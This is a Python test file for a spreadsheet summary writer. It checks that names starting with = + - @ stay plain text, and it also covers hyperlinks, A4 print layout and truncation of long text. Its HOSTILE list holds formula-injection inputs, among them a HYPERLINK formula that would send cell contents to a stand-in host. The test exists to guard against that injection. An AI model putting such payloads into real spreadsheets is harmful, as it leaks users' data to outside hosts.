"""The reviewers' summary workbook (issues 13 §8, 14 §1): every text is text (a name starting with
= + - @ never becomes a live formula), each row links to its file, and the 汇总 sheet prints on
A4 landscape one page wide with its header repeated."""
from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from perf_xlsx.batch.pool import error_row
from perf_xlsx.batch.summary import write_summary

HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "+1+2", "-3", "@SUM(A1)", "\t=1",
           "\r=2"]


def _rows(tmp_path: Path) -> list[dict]:
    rows = []
    for i, text in enumerate(HOSTILE):
        name = tmp_path / "inbox" / f"{i}.xlsx"
        row = error_row(str(name), "unreadable", "PX005", text, text)
        row["project"] = {"name": text, "department": text, "implementer": text, "year": None}
        row["findings"] = [{"code": "PX201", "severity": "error", "sheet": text, "cell": "A1",
                            "message": text, "hint": text}]
        rows.append(row)
    return rows


def test_no_cell_of_the_summary_is_a_formula(tmp_path: Path) -> None:
    out = write_summary(_rows(tmp_path), tmp_path / "汇总.xlsx")
    wb = load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    names = [c.value.replace("_x000D_", "\r") for c in wb["汇总"]["B"][1:]]   # CR as Excel stores it
    assert names == HOSTILE


def test_each_row_links_to_its_file_and_prints_readably(tmp_path: Path) -> None:
    out = write_summary(_rows(tmp_path), tmp_path / "汇总.xlsx")
    ws = load_workbook(out)["汇总"]
    link = ws["A2"].hyperlink
    assert link is not None and link.target.replace("\\", "/") == "inbox/0.xlsx"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows.replace("$", "") == "1:1"
    width = sum(ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMN")
    assert width < 200           # one page wide stays above ~70 % on A4 landscape


def test_a_text_longer_than_a_cell_is_cut_quietly(tmp_path: Path, recwarn) -> None:
    rows = _rows(tmp_path)[:1]
    rows[0]["project"]["name"] = "长" * 40000
    out = write_summary(rows, tmp_path / "汇总.xlsx")
    name = load_workbook(out)["汇总"]["B2"].value
    assert len(name) == 32767 and name.endswith("truncated）")
    assert not [w for w in recwarn if "32767" in str(w.message) or "32,767" in str(w.message)]
